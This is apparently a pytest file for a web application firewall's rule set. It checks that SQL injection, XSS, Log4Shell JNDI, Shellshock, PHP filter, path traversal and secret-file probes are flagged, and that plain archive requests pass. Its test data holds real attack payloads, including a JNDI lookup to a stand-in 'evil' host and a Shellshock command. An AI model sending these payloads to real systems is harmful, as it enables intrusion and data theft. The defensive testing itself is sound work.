"""edge.features.waf: the shipped rules catch the probes they name and leave plain archive
requests alone; rule files and per-host switches."""

from __future__ import annotations

from pathlib import Path

import pytest
from multidict import CIMultiDict

from edge.features.waf import DEFAULT_RULES, RuleError, RuleSet, load_rules

RULES = RuleSet(DEFAULT_RULES)


def check(path: str, query: str | None = None, **headers: str) -> str | None:
    rule = RULES.check("archive.example", path, query, CIMultiDict(headers))
    return rule.id if rule else None


@pytest.mark.parametrize(
    ("path", "query", "rule"),
    [
        ("/search", "q=1 UNION SELECT password FROM users", "sqli-union"),
        ("/search", "q=1%20union%2F**%2Fall%20select%201", "sqli-union"),
        ("/item", "id=1' OR '1'='1", "sqli-tautology"),
        ("/item", "id=1%27%20or%201%3D1", "sqli-tautology"),
        ("/item", "id=1;waitfor delay '0:0:5'", "sqli-timing"),
        ("/item", "id=sleep(5)", "sqli-timing"),
        ("/page", "name=<script>alert(1)</script>", "xss-script"),
        ("/page", "name=%3Cscript%3Ealert(1)", "xss-script"),
        ("/page", "u=javascript:alert(1)", "xss-script"),
        ("/page", "x=<img src=x onerror=alert(1)>", "xss-script"),
        ("/a", "x=${jndi:ldap://evil/a}", "rce-jndi"),
        ("/a", "f=php://filter/convert.base64-encode/resource=index", "php-code"),
        ("/view", "file=/etc/passwd", "file-probe"),
        ("/.git/config", None, "secret-probe"),
        ("/.env", None, "secret-probe"),
        ("/blog/wp-config.php", None, "secret-probe"),
    ],
)
def test_shipped_rules_catch_probes(path: str, query: str | None, rule: str) -> None:
    assert check(path, query) == rule


def test_header_rules() -> None:
    assert check("/", None, **{"User-Agent": "${jndi:ldap://x/a}"}) == "rce-jndi"
    assert check("/", None, **{"User-Agent": "() { :; }; /bin/bash -c id"}) == "rce-shellshock"
    assert check("/", None, **{"X-Api-Version": "${jndi:dns://x}"}) == "rce-jndi"


@pytest.mark.parametrize(
    ("path", "query"),
    [
        ("/books/moby-dick.epub", None),
        ("/scans/1851/union-select-committee-report.pdf", None),  # words, not a query
        ("/search", "q=selected+poems+of+the+union"),
        ("/search", "q=O'Brien and the sea"),
        ("/audio/sleep-tight.mp3", None),
        ("/search", "q=javascript+the+good+parts"),
        ("/env/readme.txt", None),
        ("/archive/.well-known/security.txt", None),
        ("/passwd-tips.html", None),
    ],
)
def test_plain_archive_requests_pass(path: str, query: str | None) -> None:
    assert check(path, query, **{"User-Agent": "curl/8.0", "Cookie": "a=b"}) is None


def test_per_host_switches(tmp_path: Path) -> None:
    rules = RuleSet(
        DEFAULT_RULES,
        hosts={"lab.example": False, "*.internal.example": False, "x.internal.example": True},
    )
    probe = ("/.git/config", None, CIMultiDict())
    assert rules.check("archive.example", *probe) is not None
    assert rules.check("lab.example", *probe) is None
    assert rules.check("LAB.example:8080", *probe) is None
    assert rules.check("a.internal.example", *probe) is None
    assert rules.check("x.internal.example", *probe) is not None
    off = RuleSet(DEFAULT_RULES, enabled=False, hosts={"strict.example": True})
    assert off.check("archive.example", *probe) is None
    assert off.check("strict.example", *probe) is not None


def test_rule_file(tmp_path: Path) -> None:
    path = tmp_path / "rules.toml"
    path.write_text(
        '[[rules]]\nid = "no-admin"\nwhere = ["path"]\npattern = "^/admin/"\n'
        'message = "admin is internal"\n'
        '[[rules]]\nid = "bad-bot"\nwhere = ["header:User-Agent"]\npattern = "evilbot"\n'
    )
    rules = RuleSet.from_config(False, str(path), {})
    hit = rules.check("h", "/admin/x", None, CIMultiDict())
    assert hit is not None and hit.id == "no-admin" and hit.message == "admin is internal"
    assert rules.check("h", "/x", None, CIMultiDict({"User-Agent": "EvilBot/1"})).id == "bad-bot"
    assert rules.check("h", "/.git/config", None, CIMultiDict()) is None  # shipped set off
    both = RuleSet.from_config(True, str(path), {})
    assert both.check("h", "/.git/config", None, CIMultiDict()).id == "secret-probe"


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("[[rules]]\nid = 'x'\n", "needs a pattern"),
        ("[[rules]]\npattern = '('\n", "bad pattern"),
        ("[[rules]]\npattern = 'a'\nwhere = ['body']\n", "where is path"),
        ("rules = 3\n", "array of tables"),
        ("[[rules\n", "not valid TOML"),
    ],
)
def test_rule_file_mistakes(tmp_path: Path, text: str, message: str) -> None:
    path = tmp_path / "rules.toml"
    path.write_text(text)
    with pytest.raises(RuleError, match=message):
        load_rules(path)
    with pytest.raises(RuleError, match="not found"):
        load_rules(tmp_path / "missing.toml")


_SCREENED_CASES = [
    ("/books/moby-dick.txt", None, {}),
    ("/search", "q=whale&page=2", {"User-Agent": "curl/8"}),
    ("/search", "q=1 UNION SELECT password", {}),
    ("/x", "id=1' OR 'a'='a", {}),
    ("/x", "t=sleep(5)", {}),
    ("/%3Cscript%3Ealert(1)", None, {}),
    ("/x", None, {"User-Agent": "${jndi:ldap://evil/a}"}),
    ("/x", None, {"Referer": "() { :; }; /bin/id"}),
    ("/x", "f=php://filter/resource=index", {}),
    ("/x/../../etc/passwd", None, {}),
    ("/.git/HEAD", None, {}),
    ("/x", None, {"Host": "${jndi:x}"}),  # Host is not a header the rules read
    ("/unionselect", "a=union-select", {}),
]


@pytest.mark.parametrize(("path", "query", "headers"), _SCREENED_CASES)
def test_the_joined_screen_answers_as_the_rules_one_by_one(
    path: str, query: str | None, headers: dict[str, str]
) -> None:
    """The screen (every rule's pattern joined per place) only saves work: the rule
    found is the one asked rule by rule, with or without it."""
    screened = RuleSet(DEFAULT_RULES)
    assert screened._screens is not None
    plain = RuleSet(DEFAULT_RULES)
    plain._screens = None
    fields = CIMultiDict(headers)
    assert screened.check("h", path, query, fields) == plain.check("h", path, query, fields)


def test_rules_that_cannot_be_joined_are_asked_one_by_one(tmp_path: Path) -> None:
    """A named field, a group (a backreference would renumber) or flags of its own:
    no screen, and such rules still match."""
    rules = tmp_path / "rules.toml"
    rules.write_text(
        '[[rules]]\nid = "twice"\nwhere = ["path"]\npattern = "/(ab)\\\\1/"\n'
        '[[rules]]\nid = "agent"\nwhere = ["header:x-probe"]\npattern = "^scan"\n'
    )
    loaded = load_rules(rules)
    for rule in loaded:
        alone = RuleSet([*DEFAULT_RULES, rule])
        assert alone._screens is None
    both = RuleSet([*DEFAULT_RULES, *loaded])
    hit = both.check("h", "/abab/", None, CIMultiDict())
    assert hit is not None and hit.id == "twice"
    probe = both.check("h", "/", None, CIMultiDict({"X-Probe": "scanner"}))
    assert probe is not None and probe.id == "agent"
    assert both.check("h", "/ab/", None, CIMultiDict()) is None
